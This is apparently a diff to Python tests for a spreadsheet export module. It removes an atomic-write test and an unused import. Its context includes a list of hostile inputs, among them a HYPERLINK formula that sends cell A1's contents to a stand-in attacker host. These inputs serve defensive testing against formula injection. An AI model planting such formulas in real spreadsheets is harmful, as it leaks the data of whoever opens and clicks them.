@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from nastavnik.bank.review.spreadsheets import Worksheet, harmless, replacing, write_csv, write_xlsx
+from nastavnik.bank.review.spreadsheets import Worksheet, harmless, write_csv, write_xlsx
 
 NASTY = [
     '=HYPERLINK("http://evil.example/"&A1;"нажми")',
@@ -83,15 +83,3 @@ def test_cell_longer_than_excel_takes(tmp_path: Path) -> None:
     assert [len(row[0].value) for row in openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows(2)] == [
         32_767
     ] * 2
-
-
-def test_broken_off_writing_leaves_the_old_file(tmp_path: Path) -> None:
-    target = tmp_path / "t.csv"
-    target.write_text("прежний", encoding="utf-8")
-
-    with pytest.raises(RuntimeError), replacing(target) as part:
-        part.write_text("половина", encoding="utf-8")
-        raise RuntimeError
-
-    assert [path.name for path in tmp_path.iterdir()] == ["t.csv"]
-    assert target.read_text(encoding="utf-8") == "прежний"
